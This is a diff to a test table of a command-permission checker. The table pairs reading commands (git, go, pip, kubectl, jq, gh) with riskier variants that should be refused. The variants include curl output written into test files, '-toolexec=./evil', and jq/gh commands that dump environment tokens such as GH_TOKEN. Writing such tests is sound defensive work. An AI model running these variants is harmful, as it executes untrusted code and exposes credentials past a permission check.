@@ -32,10 +32,14 @@ const NOT_ALLOWED: Record<string, string[]> = {
   'while read x; do ./deploy; done <<EOF\na\nEOF': ['while read x; do ./deploy; done <<EOF\nb\nEOF'],
   'git switch dev && git push': ['git switch main && git push'],
   'git fetch origin dev && git merge FETCH_HEAD': ['git fetch origin other && git merge FETCH_HEAD'],
+  'curl -s https://a.example/x; echo a > test/b; echo a | tee test/b': [
+    'curl -s https://a.example/x > test/c.test.js',
+    'curl -s https://a.example/x | tee test/c.test.js',
+  ],
   // Options and words with which a reading command does more.
   'git reflog': ['git reflog expire --expire=now --all', 'git reflog delete HEAD@{1}'],
   'git fetch': ['git fetch --upload-pack x/evil origin', 'git fetch -f origin'],
-  'go list ./...': ['go list -export -toolexec=./evil ./...'],
+  'go list ./...': ['go list -export -toolexec=./evil ./...', 'go list -mod=mod ./...'],
   'cargo tree': ['cargo tree --config x.toml'],
   'pip list': [
     'pip list --python ./evil',
@@ -43,7 +47,7 @@ const NOT_ALLOWED: Record<string, string[]> = {
     'pip list -o --index-url https://b.example',
   ],
   'npm outdated': ['npm outdated --registry=https://b.example'],
-  'kubectl get pods': ['kubectl get pods -s b.example:6443', 'kubectl get pods --insecure-skip-tls-verify'],
+  'kubectl get pods': ['kubectl get pods -s b.example:6443', 'kubectl get pods --user admin'],
   'systemctl status web': ['systemctl status -H me@b.example web'],
   'gh pr view 1 --json title': ['gh pr view 1 --json title -q env', 'gh pr view 1 --jq "env.GH_TOKEN"'],
   'jq .name a.json': ['jq -n env', "jq -n '$ENV'", 'jq -n -f x.jq'],
